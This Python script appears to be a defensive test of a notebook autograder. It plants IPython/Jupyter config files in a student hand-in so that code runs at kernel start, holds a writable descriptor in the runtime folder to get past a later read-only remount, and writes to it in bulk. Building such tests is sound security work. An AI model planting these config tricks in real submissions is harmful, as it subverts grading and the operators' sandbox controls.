"""a04: a hand-in that ships IPython/Jupyter config files beside its notebook (ipython_kernel_config.py,
ipython_config.py, jupyter_config.py). The kernel starts in (a copy of) the hand-in folder and IPython reads
config files from its working directory, so their code would run at kernel start, before the grader has made the
runtime folder read-only ("before any cell runs"). The config holds a file in the runtime folder open for writing
(so a read-only remount has a writer) and records what it saw; a later cell reports whether the runtime folder was
sealed and writes through the held descriptor. Honest control: the solution."""
import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common14 import course, grade, show, honest_nb, notebook, cleanup  # noqa: E402

DEST = "/tmp/attack14-a04"
CONFIG = r'''
import os, time
_rt = os.environ.get("JUPYTER_RUNTIME_DIR", "")
_log = open("/tmp/a14-config.log", "a")
_log.write(f"CONFIG ran: file={__file__ if '__file__' in dir() else '?'} pid={os.getpid()} cwd={os.getcwd()} runtime={_rt} "
           f"listing={sorted(os.listdir(_rt)) if _rt and os.path.isdir(_rt) else None} t={time.time()}\n")
try:
    fd = os.open(os.path.join(_rt, "held-open.bin"), os.O_WRONLY | os.O_CREAT, 0o600)
    os.write(fd, b"A" * 4096)
    os.environ["A14_HELD_FD"] = str(fd)
    _log.write(f"held fd {fd} open for writing in the runtime folder\n")
except OSError as e:
    _log.write(f"could not open a file in the runtime folder: {e}\n")
_log.close()
'''
REPORT = r'''
import os
print("A14 config log:", open("/tmp/a14-config.log").read() if os.path.exists("/tmp/a14-config.log") else "none (no config file ran)")
_rt = os.environ.get("JUPYTER_RUNTIME_DIR", "")
print("A14 runtime dir:", _rt, sorted(os.listdir(_rt)) if os.path.isdir(_rt) else None)
try:
    open(os.path.join(_rt, "from-a-cell"), "w").write("x")
    print("A14 a cell could create a file in the runtime folder: NOT sealed")
except OSError as e:
    print("A14 a cell could not create a file in the runtime folder:", e)
_fd = os.environ.get("A14_HELD_FD")
if _fd:
    try:
        n = 0
        for _ in range(2048):
            n += os.write(int(_fd), b"B" * 65536)
        print(f"A14 wrote {n / 2**20:.1f} MiB through the fd the config held open")
    except OSError as e:
        print(f"A14 write through the held fd stopped after {n / 2**20:.1f} MiB: {e}")
for line in open("/proc/self/mountinfo"):
    if _rt and _rt in line:
        print("A14 mount:", line.strip())
'''


def mutate(nb):
    for c in nb.cells:
        if c.metadata.get("nbgrader", {}).get("grade_id") == "training_memory":
            c.source = REPORT


dest = course(DEST, {"alice_honest": honest_nb(), "mallory": notebook(mutate=mutate)})
handin = os.path.join(dest, "submitted", "mallory", "ps1_memory")
for name in ("ipython_kernel_config.py", "ipython_config.py", "jupyter_config.py", "jupyter_kernel_config.py"):
    open(os.path.join(handin, name), "w").write(CONFIG)
grade(dest)
show(dest)
import nbformat  # noqa: E402
nb = nbformat.read(os.path.join(dest, "autograded", "mallory", "ps1_memory", "ps1_memory.ipynb"), 4)
for c in nb.cells:
    if c.metadata.get("nbgrader", {}).get("grade_id") == "training_memory":
        for o in c.get("outputs", []):
            print(o.get("output_type"), (o.get("text") or o.get("ename", "") + ": " + o.get("evalue", ""))[:4000])
print("autograded/mallory holds:", sorted(os.listdir(os.path.join(dest, "autograded", "mallory", "ps1_memory"))))
cleanup(DEST)
print("cleaned up", DEST)
